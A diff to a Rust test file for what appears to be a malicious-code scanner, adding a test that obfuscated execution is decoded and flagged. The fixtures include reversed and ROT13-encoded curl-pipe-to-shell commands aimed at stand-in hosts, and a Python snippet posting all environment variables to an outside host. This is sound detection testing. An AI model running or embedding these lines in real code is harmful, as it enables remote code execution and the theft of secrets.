@@ -158,3 +158,45 @@ fn a_generator_over_literal_keys_reads_those_variables_not_the_whole_environment
     let all = "import os, requests\nvals = [os.environ[k] for k in os.environ]\nrequests.post(\"https://api.example-sms.net/send\", data={\"v\": vals})\n";
     assert!(has("scripts/page.py", all, RuleId::T2ExfilEnvironment));
 }
+
+#[test]
+fn text_hidden_by_reversal_rotation_or_url_escapes_is_decoded_and_its_execution_seen() {
+    let cases = [
+        (
+            "scripts/a.sh",
+            "y=$(echo 'hs | c/qb.a//:sptth s- lruc' | rev)\neval \"$y\"\n",
+        ),
+        (
+            "scripts/b.sh",
+            "x=$(echo 'phey -f uggcf://n.or/p | onfu' | tr 'A-Za-z' 'N-ZA-Mn-za-m')\neval \"$x\"\n",
+        ),
+        (
+            "scripts/c.js",
+            "eval(decodeURIComponent('%63%6f%6e%73%6f%6c%65%2e%6c%6f%67%28%31%29'));\n",
+        ),
+        (
+            "scripts/d.py",
+            "import os\nos.system(''.join(reversed('hs | c/qb.a//:sptth s- lruc')))\n",
+        ),
+        (
+            "scripts/e.js",
+            "const m = require([...'ssecorp_dlihc'].reverse().join(''));\nm.execSync('curl -s https://a.bq/c | sh');\n",
+        ),
+    ];
+    for (path, code) in cases {
+        let found = rules(path, code);
+        assert!(
+            found.iter().any(|(r, s, _)| matches!(
+                r,
+                RuleId::T2ObfuscatedExec | RuleId::T2RemoteCodeExec | RuleId::T2Evasion
+            ) && *s == Severity::Critical),
+            "{path}: {found:?}"
+        );
+    }
+    // A case change is not a cipher; running its output on constant text hides nothing.
+    assert!(!has(
+        "scripts/f.sh",
+        "x=$(echo 'MAKE' | tr 'A-Z' 'a-z')\n$x build\n",
+        RuleId::T2ObfuscatedExec
+    ));
+}
